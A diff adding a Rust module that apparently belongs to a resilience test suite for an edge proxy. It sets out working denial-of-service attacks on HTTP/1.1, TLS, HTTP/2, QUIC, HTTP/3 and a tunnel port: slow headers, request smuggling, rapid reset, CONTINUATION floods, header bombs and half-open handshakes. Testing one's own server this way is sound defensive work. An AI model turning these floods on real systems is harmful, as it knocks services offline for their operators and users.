@@ -1,0 +1,452 @@
+//! The attacks, from where attackers stand: whatever can be sent to the public ports and the port for agents.
+
+use std::net::{Ipv4Addr, SocketAddr};
+use std::sync::Arc;
+use std::time::Duration;
+
+use futures_util::future::BoxFuture;
+use rustls::pki_types::pem::PemObject as _;
+use rustls::pki_types::{CertificateDer, ServerName};
+use serde_json::Value;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::net::{TcpStream, UdpSocket};
+use tokio::time::sleep;
+
+/// What an attacker says when it begins.
+pub(super) const BEGINS: &str = "the attack begins";
+
+/// Between two bytes of a slow attacker.
+const DRIP: Duration = Duration::from_millis(500);
+
+/// Whom to attack.
+#[derive(Clone)]
+struct Target {
+    http: SocketAddr,
+    https: SocketAddr,
+    tunnel: SocketAddr,
+    host: String,
+    tls: Arc<rustls::ClientConfig>,
+}
+
+/// One of many of the same, which goes on until it is stopped.
+type Attacker = fn(Target, usize) -> BoxFuture<'static, std::io::Result<()>>;
+
+pub(super) struct Attack {
+    pub(super) name: &'static str,
+    /// For people.
+    pub(super) what: &'static str,
+    /// So many at once.
+    workers: usize,
+    attacker: Attacker,
+}
+
+macro_rules! attacks {
+    ($($name:ident, $workers:literal, $what:literal;)*) => {
+        /// All of them.
+        pub(super) const ATTACKS: &[Attack] = &[$(
+            Attack {
+                name: stringify!($name),
+                what: $what,
+                workers: $workers,
+                attacker: |target, number| Box::pin($name(target, number)),
+            },
+        )*];
+    };
+}
+
+attacks! {
+    connections, 16, "HTTP/1.1: connections opened and closed";
+    slow_headers, 1000, "HTTP/1.1: headers a byte at a time, 1,000 connections";
+    slow_bodies, 500, "HTTP/1.1: bodies a byte at a time, 500 connections";
+    slow_readers, 200, "HTTP/1.1: answers of 1 GB that nobody reads, 200 connections";
+    garbage, 16, "HTTP/1.1: garbage";
+    smuggling, 8, "HTTP/1.1: requests of two framings";
+    tls_garbage, 16, "TLS: garbage";
+    tls_handshakes, 8, "TLS: whole handshakes and nothing more";
+    tls_silence, 1000, "TLS: handshakes that stop in the middle, 1,000 connections";
+    rapid_reset, 4, "HTTP/2: rapid reset";
+    made_you_reset, 4, "HTTP/2: made-you-reset";
+    continuations, 4, "HTTP/2: CONTINUATION without end";
+    settings, 4, "HTTP/2: settings";
+    pings, 4, "HTTP/2: pings";
+    empty_data, 4, "HTTP/2: empty DATA";
+    header_bombs, 4, "HTTP/2: header bombs";
+    closed_windows, 50, "HTTP/2: 100 answers with closed windows on each of 50 connections";
+    quic_garbage, 4, "QUIC: garbage";
+    quic_initials, 4, "QUIC: Initial packets, a thousand half-open handshakes";
+    quic_handshakes, 8, "QUIC: whole handshakes and nothing more";
+    http3_resets, 4, "HTTP/3: requests taken back";
+    http3_empty_frames, 4, "HTTP/3: frames that carry nothing";
+    http3_slow_readers, 20, "HTTP/3: 100 answers that nobody reads on each of 20 connections";
+    tunnel_scanners, 16, "Tunnel port: scanners and TLS garbage";
+    tunnel_silence, 1000, "Tunnel port: handshakes and no registration, 1,000 connections";
+    tunnel_initials, 4, "Tunnel port: Initial packets";
+    tunnel_rpc, 8, "Tunnel port: RPC that is none, over HTTP/2";
+}
+
+/// Attacks until the process is ended.
+pub(super) async fn attack(told: &Value) {
+    let text = |key: &str| told[key].as_str().unwrap().to_owned();
+    let address = |key: &str| text(key).parse().unwrap();
+    let name = text("attack");
+    let attack = ATTACKS.iter().find(|attack| attack.name == name).unwrap();
+    let mut roots = rustls::RootCertStore::empty();
+    roots.add(CertificateDer::from_pem_file(text("ca")).unwrap()).unwrap();
+    let tls = rustls::ClientConfig::builder_with_provider(Arc::new(rustls::crypto::aws_lc_rs::default_provider()))
+        .with_safe_default_protocol_versions()
+        .unwrap()
+        .with_root_certificates(roots)
+        .with_no_client_auth();
+    let target = Target {
+        http: address("http"),
+        https: address("https"),
+        tunnel: address("tunnel"),
+        host: text("host"),
+        tls: Arc::new(tls),
+    };
+    println!("{BEGINS}");
+    let workers = (0..attack.workers).map(|number| {
+        let (target, attacker) = (target.clone(), attack.attacker);
+        tokio::spawn(async move {
+            loop {
+                // Whatever comes of one, there is another.
+                let outcome = attacker(target.clone(), number).await;
+                if outcome.is_err() {
+                    sleep(Duration::from_millis(5)).await;
+                }
+            }
+        })
+    });
+    futures_util::future::join_all(workers.collect::<Vec<_>>()).await;
+}
+
+/// Whatever the edge says to it.
+async fn rest(mut stream: impl tokio::io::AsyncRead + Unpin) -> std::io::Result<()> {
+    tokio::io::copy(&mut stream, &mut tokio::io::sink()).await.map(|_| ())
+}
+
+async fn send(address: SocketAddr, bytes: &[u8]) -> std::io::Result<()> {
+    let mut stream = TcpStream::connect(address).await?;
+    stream.write_all(bytes).await?;
+    rest(stream).await
+}
+
+async fn drip(mut stream: TcpStream, bytes: &[u8]) -> std::io::Result<()> {
+    for byte in bytes.iter().cycle() {
+        stream.write_all(&[*byte]).await?;
+        sleep(DRIP).await;
+    }
+    Ok(())
+}
+
+async fn connections(target: Target, _: usize) -> std::io::Result<()> {
+    drop(TcpStream::connect(target.http).await?);
+    Ok(())
+}
+
+async fn slow_headers(target: Target, _: usize) -> std::io::Result<()> {
+    let mut stream = TcpStream::connect(target.http).await?;
+    stream.write_all(b"GET / HTTP/1.1\r\nHost: ").await?;
+    drip(stream, b"a").await
+}
+
+async fn slow_bodies(target: Target, _: usize) -> std::io::Result<()> {
+    let mut stream = TcpStream::connect(target.http).await?;
+    let head = format!("POST /echo HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n", target.host);
+    stream.write_all(head.as_bytes()).await?;
+    drip(stream, b"a").await
+}
+
+async fn slow_readers(target: Target, _: usize) -> std::io::Result<()> {
+    let mut stream = TcpStream::connect(target.http).await?;
+    let head = format!("GET /bytes?n=1000000000 HTTP/1.1\r\nHost: {}\r\n\r\n", target.host);
+    stream.write_all(head.as_bytes()).await?;
+    std::future::pending().await
+}
+
+async fn garbage(target: Target, number: usize) -> std::io::Result<()> {
+    let junk: Vec<u8> = (0..4096).map(|at| (at * 31 + number * 7) as u8).collect();
+    send(target.http, &junk).await
+}
+
+async fn smuggling(target: Target, _: usize) -> std::io::Result<()> {
+    let head = format!(
+        "POST / HTTP/1.1\r\nHost: {}\r\nTransfer-Encoding: gzip, chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
+        target.host
+    );
+    send(target.http, head.as_bytes()).await
+}
+
+async fn tls_garbage(target: Target, number: usize) -> std::io::Result<()> {
+    // A record of the right kind, and nothing right in it.
+    let mut junk = vec![0x16, 3, 1, 16, 0];
+    junk.extend((0..4096).map(|at| (at * 31 + number * 7) as u8));
+    send(target.https, &junk).await
+}
+
+async fn handshake(
+    target: &Target,
+    address: SocketAddr,
+    name: &str,
+    alpn: &[&[u8]],
+) -> std::io::Result<tokio_rustls::client::TlsStream<TcpStream>> {
+    let mut tls = (*target.tls).clone();
+    tls.alpn_protocols = alpn.iter().map(|name| name.to_vec()).collect();
+    tls.resumption = rustls::client::Resumption::disabled();
+    let connector = tokio_rustls::TlsConnector::from(Arc::new(tls));
+    let name = ServerName::try_from(name.to_owned()).map_err(std::io::Error::other)?;
+    connector.connect(name, TcpStream::connect(address).await?).await
+}
+
+async fn tls_handshakes(target: Target, _: usize) -> std::io::Result<()> {
+    handshake(&target, target.https, &target.host, &[]).await.map(drop)
+}
+
+async fn tls_silence(target: Target, _: usize) -> std::io::Result<()> {
+    let mut stream = TcpStream::connect(target.https).await?;
+    stream.write_all(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc]).await?;
+    rest(stream).await
+}
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
+    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
+}
+
+/// A request's header: method by its index in the static table.
+fn header(method: u8, target: &Target, path: &str) -> Vec<u8> {
+    let mut block = vec![method, 0x86, 0x04, u8::try_from(path.len()).unwrap()];
+    block.extend(path.as_bytes());
+    block.extend([0x01, u8::try_from(target.host.len()).unwrap()]);
+    block.extend(target.host.as_bytes());
+    block
+}
+
+/// Frames on a connection of their own, with a reader beside, until the edge ends it.
+async fn http2(target: &Target, frames: &[u8]) -> std::io::Result<()> {
+    let (reader, mut writer) = TcpStream::connect(target.http).await?.into_split();
+    let reading = tokio::spawn(rest(reader));
+    writer.write_all(PREFACE).await?;
+    let written = writer.write_all(frames).await;
+    if written.is_ok() {
+        let _ = reading.await;
+    } else {
+        reading.abort();
+    }
+    written
+}
+
+async fn rapid_reset(target: Target, _: usize) -> std::io::Result<()> {
+    let mut frames = Vec::new();
+    for number in 0..5000 {
+        frames.extend(frame(1, 5, 2 * number + 1, &header(0x82, &target, "/hang")));
+        frames.extend(frame(3, 0, 2 * number + 1, &8_u32.to_be_bytes()));
+    }
+    http2(&target, &frames).await
+}
+
+async fn made_you_reset(target: Target, _: usize) -> std::io::Result<()> {
+    let mut frames = Vec::new();
+    for number in 0..5000 {
+        frames.extend(frame(1, 5, 2 * number + 1, &header(0x82, &target, "/hang")));
+        frames.extend(frame(8, 0, 2 * number + 1, &[0; 4]));
+    }
+    http2(&target, &frames).await
+}
+
+async fn continuations(target: Target, _: usize) -> std::io::Result<()> {
+    let mut frames = frame(1, 1, 1, &header(0x82, &target, "/"));
+    frames.extend(frame(9, 0, 1, &[0, 1, b'x', 1, b'y']).repeat(20_000));
+    http2(&target, &frames).await
+}
+
+async fn settings(target: Target, _: usize) -> std::io::Result<()> {
+    http2(&target, &frame(4, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(20_000)).await
+}
+
+async fn pings(target: Target, _: usize) -> std::io::Result<()> {
+    http2(&target, &frame(6, 0, 0, &[7; 8]).repeat(20_000)).await
+}
+
+async fn empty_data(target: Target, _: usize) -> std::io::Result<()> {
+    let mut frames = frame(1, 4, 1, &header(0x83, &target, "/echo"));
+    frames.extend(frame(0, 0, 1, &[]).repeat(20_000));
+    http2(&target, &frames).await
+}
+
+async fn header_bombs(target: Target, _: usize) -> std::io::Result<()> {
+    let mut block = header(0x82, &target, "/");
+    // The length 4000 with a prefix of seven bits (RFC 7541 section 5.1), and then its one-byte name again and again.
+    block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
+    block.extend([b'v'; 4000]);
+    block.extend([0xbe; 12_000]);
+    http2(&target, &frame(1, 5, 1, &block)).await
+}
+
+async fn closed_windows(target: Target, _: usize) -> std::io::Result<()> {
+    let mut frames = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
+    for number in 0..100 {
+        frames.extend(frame(1, 5, 2 * number + 1, &header(0x82, &target, "/bytes?n=100000000")));
+    }
+    http2(&target, &frames).await
+}
+
+async fn udp() -> std::io::Result<UdpSocket> {
+    UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await
+}
+
+/// Long and short headers with all else made up.
+async fn quic_garbage(target: Target, number: usize) -> std::io::Result<()> {
+    let socket = udp().await?;
+    for round in 0..10_000_usize {
+        let mut packet: Vec<u8> = (0..1200).map(|at| (at * 31 + number * 7 + round) as u8).collect();
+        packet[..6].copy_from_slice(&[[0xc3, 0x43][round % 2], 0, 0, 0, 1, 8]);
+        packet[6..14].copy_from_slice(&(round + number).to_be_bytes());
+        socket.send_to(&packet, target.https).await?;
+        if round % 64 == 0 {
+            tokio::task::yield_now().await;
+        }
+    }
+    Ok(())
+}
+
+fn quic_config(target: &Target, alpn: &[u8]) -> quinn::ClientConfig {
+    let mut tls = (*target.tls).clone();
+    tls.alpn_protocols = vec![alpn.to_vec()];
+    tls.resumption = rustls::client::Resumption::disabled();
+    quinn::ClientConfig::new(Arc::new(quinn::crypto::rustls::QuicClientConfig::try_from(tls).unwrap()))
+}
+
+/// First flights, each sent for once and never followed by another packet.
+async fn initials(target: &Target, address: SocketAddr, name: &str, alpn: &[u8]) -> std::io::Result<()> {
+    let trap = udp().await?;
+    let socket = udp().await?;
+    let endpoint = quinn::Endpoint::client((Ipv4Addr::LOCALHOST, 0).into())?;
+    let mut packet = [0; 2048];
+    loop {
+        // It dials the trap, and what it sends there goes on to the edge from an address where nobody answers.
+        let connecting = endpoint
+            .connect_with(quic_config(target, alpn), trap.local_addr()?, name)
+            .map_err(std::io::Error::other)?;
+        for _ in 0..2 {
+            let received = tokio::time::timeout(Duration::from_millis(200), trap.recv(&mut packet)).await;
+            let Ok(Ok(length)) = received else { break };
+            socket.send_to(&packet[..length], address).await?;
+        }
+        drop(connecting);
+    }
+}
+
+async fn quic_initials(target: Target, _: usize) -> std::io::Result<()> {
+    initials(&target, target.https, &target.host, b"h3").await
+}
+
+async fn tunnel_initials(target: Target, _: usize) -> std::io::Result<()> {
+    initials(&target, target.tunnel, certs::tls::TUNNEL_QUIC_NAME, certs::tls::TUNNEL_ALPN).await
+}
+
+async fn dial(target: &Target, config: quinn::ClientConfig) -> std::io::Result<(quinn::Endpoint, quinn::Connection)> {
+    let endpoint = quinn::Endpoint::client((Ipv4Addr::LOCALHOST, 0).into())?;
+    let connecting = endpoint.connect_with(config, target.https, &target.host).map_err(std::io::Error::other)?;
+    let connection = connecting.await.map_err(std::io::Error::other)?;
+    Ok((endpoint, connection))
+}
+
+async fn quic_handshakes(target: Target, _: usize) -> std::io::Result<()> {
+    dial(&target, quic_config(&target, b"h3")).await.map(drop)
+}
+
+/// A HEADERS frame of HTTP/3 with literal fields.
+fn http3_headers(target: &Target, path: &str, method: u8) -> Vec<u8> {
+    // Method and `https` by their index, then authority and path with theirs for the name.
+    let mut block = vec![0, 0, 0xc0 | method, 0xc0 | 23, 0x50, u8::try_from(target.host.len()).unwrap()];
+    block.extend(target.host.as_bytes());
+    block.extend([0x51, u8::try_from(path.len()).unwrap()]);
+    block.extend(path.as_bytes());
+    let length = u16::try_from(block.len()).unwrap() | 0x4000;
+    [&[1], &length.to_be_bytes()[..], &block].concat()
+}
+
+const GET: u8 = 17;
+const POST: u8 = 20;
+
+async fn http3_resets(target: Target, _: usize) -> std::io::Result<()> {
+    let (_endpoint, connection) = dial(&target, quic_config(&target, b"h3")).await?;
+    let mut control = connection.open_uni().await.map_err(std::io::Error::other)?;
+    control.write_all(&[0, 4, 0]).await.map_err(std::io::Error::other)?;
+    loop {
+        let (mut sending, mut receiving) = connection.open_bi().await.map_err(std::io::Error::other)?;
+        sending.write_all(&http3_headers(&target, "/hang", GET)).await.map_err(std::io::Error::other)?;
+        let _ = sending.reset(0x10c_u32.into());
+        let _ = receiving.stop(0x10c_u32.into());
+    }
+}
+
+async fn http3_empty_frames(target: Target, _: usize) -> std::io::Result<()> {
+    let (_endpoint, connection) = dial(&target, quic_config(&target, b"h3")).await?;
+    let mut control = connection.open_uni().await.map_err(std::io::Error::other)?;
+    control.write_all(&[0, 4, 0]).await.map_err(std::io::Error::other)?;
+    let (mut sending, _receiving) = connection.open_bi().await.map_err(std::io::Error::other)?;
+    sending.write_all(&http3_headers(&target, "/echo", POST)).await.map_err(std::io::Error::other)?;
+    // Empty DATA, and empty frames of a kind that nobody knows.
+    let nothing = [0, 0, 0x21, 0].repeat(4096);
+    loop {
+        sending.write_all(&nothing).await.map_err(std::io::Error::other)?;
+    }
+}
+
+async fn http3_slow_readers(target: Target, _: usize) -> std::io::Result<()> {
+    let mut transport = quinn::TransportConfig::default();
+    transport.stream_receive_window(16_u32.into()).keep_alive_interval(Some(Duration::from_secs(1)));
+    let mut config = quic_config(&target, b"h3");
+    config.transport_config(Arc::new(transport));
+    let (_endpoint, connection) = dial(&target, config).await?;
+    let mut control = connection.open_uni().await.map_err(std::io::Error::other)?;
+    control.write_all(&[0, 4, 0]).await.map_err(std::io::Error::other)?;
+    let mut kept = Vec::new();
+    for _ in 0..100 {
+        let (mut sending, receiving) = connection.open_bi().await.map_err(std::io::Error::other)?;
+        let head = http3_headers(&target, "/bytes?n=100000000", GET);
+        sending.write_all(&head).await.map_err(std::io::Error::other)?;
+        let _ = sending.finish();
+        kept.push(receiving);
+    }
+    connection.closed().await;
+    drop(kept);
+    Ok(())
+}
+
+async fn tunnel_scanners(target: Target, number: usize) -> std::io::Result<()> {
+    let greetings: [&[u8]; 4] = [
+        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
+        b"\x16\x03\x01\x10\x00garbage garbage garbage garbage",
+        b"SSH-2.0-scanner\r\n",
+        b"\0\0\0\0\0\0\0\0",
+    ];
+    let mut stream = TcpStream::connect(target.tunnel).await?;
+    stream.write_all(greetings[number % greetings.len()]).await?;
+    stream.shutdown().await?;
+    rest(stream).await
+}
+
+async fn tunnel_silence(target: Target, _: usize) -> std::io::Result<()> {
+    rest(handshake(&target, target.tunnel, certs::tls::TUNNEL_HTTP2_NAME, &[]).await?).await
+}
+
+/// The edge asks for a control stream on a connection that it thinks is an agent's; it gets other answers.
+async fn tunnel_rpc(target: Target, number: usize) -> std::io::Result<()> {
+    let mut stream = handshake(&target, target.tunnel, certs::tls::TUNNEL_HTTP2_NAME, &[]).await?;
+    // Empty settings and their acknowledgement, `:status: 200` on the first stream, and then no RPC.
+    let mut sent = [frame(4, 0, 0, &[]), frame(4, 1, 0, &[])].concat();
+    sent.extend(frame(1, 4, 1, &[0x88]));
+    for size in [1, 7, 8, 100, 16_000] {
+        let junk: Vec<u8> = (0..size).map(|at| (at * 31 + number * 7) as u8).collect();
+        sent.extend(frame(0, 0, 1, &junk));
+    }
+    stream.write_all(&sent).await?;
+    let mut answer = [0; 1024];
+    while stream.read(&mut answer).await? > 0 {}
+    Ok(())
+}
